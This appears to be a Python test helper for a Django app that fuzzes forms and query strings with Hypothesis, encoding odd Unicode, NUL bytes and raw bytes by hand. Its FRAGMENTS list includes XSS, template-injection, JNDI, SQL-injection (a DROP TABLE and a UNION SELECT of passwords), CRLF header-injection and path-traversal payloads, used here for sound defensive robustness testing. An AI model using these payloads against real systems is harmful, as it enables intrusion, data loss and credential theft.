"""Hostile values for forms and query strings, and how to send them like a browser would not.

Text comes from Hypothesis: random Unicode, oversized values, NUL bytes, lone
surrogates and undecodable bytes, right-to-left overrides, emoji, combining
marks, very long lines, and HTML, script, template and SQL fragments. Values
are sent percent-encoded by hand (``encode``), so that lone surrogates and raw
bytes that are not UTF-8 reach the server as a browser or a script could send them.
"""

from contextlib import contextmanager
from urllib.parse import quote

from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Per form: twenty examples each keep the whole suite near a minute per database.
hostile_settings = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)

SCRIPT = "<script>alert(1)</script>"

FRAGMENTS = [
    "",
    " ",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "<a href=\"javascript:alert('x')\">klicka</a>",
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "' OR '1'='1",
    "'; DROP TABLE promises_promise; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "%' AND 1=0 UNION SELECT username, password FROM auth_user --",
    "\\",
    "%",
    "_",
    "\x00",
    "före\x00efter",
    "\ud800",  # lone high surrogate
    "\udfff",  # lone low surrogate
    "\udcff\udcfe",  # sent as the raw bytes 0xFF 0xFE: not UTF-8 at all
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u200e\u2066\u2069",
    "\ufeff\u200b\u2060",
    "😀👩‍👩‍👧‍👦🇸🇪",
    "Z\u0351\u0353\u0354a\u0300\u0301\u0302\u0303lgo" * 20,
    "e\u0301" * 500,
    "Ⓣⓘⓜⓡⓐ 𝕿𝖎𝖒𝖗å ＴＩＭＲÅ",
    "ǅ ß ﬃ İ ı",
    "\r\n\r\nSet-Cookie: x=y",
    "line\nline\rline\u2028line\u2029",
    "\t\x0b\x0c\x1b[31m",
    "../../../../etc/passwd",
    "//example.com/",
    "https://example.com/",
    "javascript:alert(1)",
    "-1",
    "0",
    "1e309",
    "NaN",
    "Infinity",
    "9" * 40,
    "0x1F",
    "1,5",
    "١٢٣",  # Arabic-Indic digits
    "２０２５-０１-０１",  # full-width digits
    "2025-02-30",
    "0000-00-00",
    "9999-12-31",
    "25:61",
    "null",
    "None",
    "true",
    "[]",
    "{}",
]

PIECES = ["a", "Å", "ö", "<", ">", "&", '"', "'", ";", "--", "\x00", "\ud800", "😀", " ", "\n"]


@st.composite
def _long_line(draw) -> str:
    unit = draw(st.sampled_from(["x", "å", "😀", "<b>", "e\u0301", "\u202e", "\x00"]))
    return unit * draw(st.integers(min_value=1_000, max_value=70_000))


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FRAGMENTS),
        st.text(max_size=300),
        st.text(
            alphabet=st.characters(categories=["Cc", "Cf", "Cs", "Mn", "So", "Zl", "Zp"]),
            max_size=50,
        ),
        st.lists(st.sampled_from(FRAGMENTS + PIECES), min_size=2, max_size=6).map("".join),
        _long_line(),
    )


def encode_value(value: str) -> str:
    """Percent-encode like a client that sends whatever it has.

    Lone surrogates go as their (invalid) three UTF-8-style bytes; U+DC80–U+DCFF
    as the single raw byte they stand for (Python's surrogateescape).
    """
    out = bytearray()
    for char in value:
        code = ord(char)
        if 0xDC80 <= code <= 0xDCFF:
            out.append(code - 0xDC00)
        else:
            out += char.encode("utf-8", "surrogatepass")
    return quote(bytes(out), safe="")


def encode(data: dict) -> str:
    """``application/x-www-form-urlencoded`` (or a query string) of str or list values."""
    pairs = []
    for key, value in data.items():
        values = value if isinstance(value, list | tuple) else [value]
        pairs += [f"{encode_value(key)}={encode_value(str(item))}" for item in values]
    return "&".join(pairs)


def post(client, path: str, data: dict, **extra):
    return client.generic(
        "POST", path, encode(data), content_type="application/x-www-form-urlencoded", **extra
    )


def get(client, path: str, data: dict, **extra):
    return client.get(f"{path}?{encode(data)}", **extra)


@contextmanager
def rolled_back():
    """Each example starts from the same database: its writes are undone afterwards."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def assert_not_a_server_error(response) -> None:
    assert response.status_code < 500, response.status_code


def assert_valid(obj, exclude=None) -> None:
    """The stored row passes the model's validation and holds no NUL character,
    which model validation lets through but PostgreSQL cannot store."""
    obj.full_clean(exclude=exclude)
    for field in obj._meta.fields:
        value = getattr(obj, field.attname)
        assert not (isinstance(value, str) and "\x00" in value), (obj, field.name)
